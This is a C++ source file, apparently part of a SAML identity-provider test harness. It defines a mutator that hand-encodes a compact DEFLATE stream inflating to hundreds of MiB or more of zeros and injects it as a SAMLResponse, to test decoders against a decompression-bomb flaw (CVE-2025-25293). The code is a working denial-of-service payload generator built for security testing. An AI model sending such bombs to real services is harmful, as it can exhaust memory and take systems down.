// SPDX-License-Identifier: Apache-2.0
// binding.inflate_bomb — the SAMLResponse value is a raw DEFLATE stream of about 100 KB that
// inflates to inflated_mb MiB of zeros (BIND-INFLATE-BOMB; ruby-saml CVE-2025-25293). A POST
// value is never inflated (saml-bindings §3.5.4: base64 only); a Redirect decoder must inflate in
// bounded chunks (§3.4.4.1). The stream is written by hand (RFC 1951 §3.2.7), so building it costs
// nothing: one dynamic-Huffman block whose codes make each 258-byte match 2 bits long.
#include "mutators/binding/binding.hpp"
#include "mutators/mutators.hpp"

#include <cstdint>

namespace samlt::idp::mutators {
namespace {

// RFC 1951 §3.1.1: data elements are packed starting with the least-significant bit, Huffman
// codes starting with their most-significant bit.
class BitWriter {
 public:
  void bits(std::uint32_t value, int count) {
    for (int i = 0; i < count; ++i) {
      bit((value >> i) & 1U);
    }
  }
  void code(std::uint32_t value, int length) {
    for (int i = length - 1; i >= 0; --i) {
      bit((value >> i) & 1U);
    }
  }
  std::string finish() { return std::move(m_out); }

 private:
  void bit(std::uint32_t b) {
    if (m_used == 0) {
      m_out.push_back('\0');
    }
    m_out.back() = static_cast<char>(static_cast<unsigned char>(m_out.back()) | (b << m_used));
    m_used = (m_used + 1) % 8;
  }
  std::string m_out;
  int m_used = 0;
};

// 1 + 258 * matches zero bytes. Literal/length code: 0 -> "10", 256 (end) -> "11", 285 (length
// 258) -> "0"; distance code: 0 (distance 1) -> "0"; code-length code: 1 -> "10", 2 -> "11",
// 18 (a run of zeros) -> "0".
std::string deflate_zeros(std::uint64_t matches) {
  BitWriter w;
  w.bits(1, 1);   // BFINAL
  w.bits(2, 2);   // BTYPE = dynamic Huffman
  w.bits(29, 5);  // HLIT: 286 literal/length codes
  w.bits(0, 5);   // HDIST: 1 distance code
  w.bits(14, 4);  // HCLEN: 18 code-length code lengths, in the order 16 17 18 0 8 7 9 6 10 5 11 4 12 3 13 2 14 1
  for (int length : {0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 2}) {
    w.bits(static_cast<std::uint32_t>(length), 3);
  }
  // Code lengths of symbols 0..285 and of distance 0: 2, 255 x 0, 2, 28 x 0, 1, 1.
  w.code(3, 2);  // 2 (literal 0)
  for (std::uint32_t zeros : {138U, 117U}) {  // literals 1..255 are unused
    w.code(0, 1);
    w.bits(zeros - 11, 7);
  }
  w.code(3, 2);  // 2 (end of block)
  w.code(0, 1);  // 28 zeros: lengths 257..284 are unused
  w.bits(28 - 11, 7);
  w.code(2, 2);  // 1 (length 258)
  w.code(2, 2);  // 1 (distance 1)
  w.code(2, 2);  // the data: literal 0 …
  for (std::uint64_t i = 0; i < matches; ++i) {
    w.code(0, 1);  // … then length 258
    w.code(0, 1);  // at distance 1, again and again
  }
  w.code(3, 2);  // end of block
  return w.finish();
}

}  // namespace

core::Result<void> binding_inflate_bomb(Target& target) {
  auto inflated_mb = int_param(target, "inflated_mb", 100, 1);
  if (!inflated_mb) {
    return core::fail(inflated_mb.error());
  }
  if (*inflated_mb > 4096) {
    return core::fail(core::Reason::mutator_params_invalid, "/inflated_mb: at most 4096");
  }
  core::FormField* message = form_field(target, "SAMLResponse");
  if (message == nullptr) {
    return core::fail(core::Reason::mutator_not_applicable, "no SAMLResponse field");
  }
  const std::uint64_t bytes = static_cast<std::uint64_t>(*inflated_mb) * 1024 * 1024;
  message->second = core::base64_encode(deflate_zeros(bytes / 258 + 1));
  return {};
}

}  // namespace samlt::idp::mutators
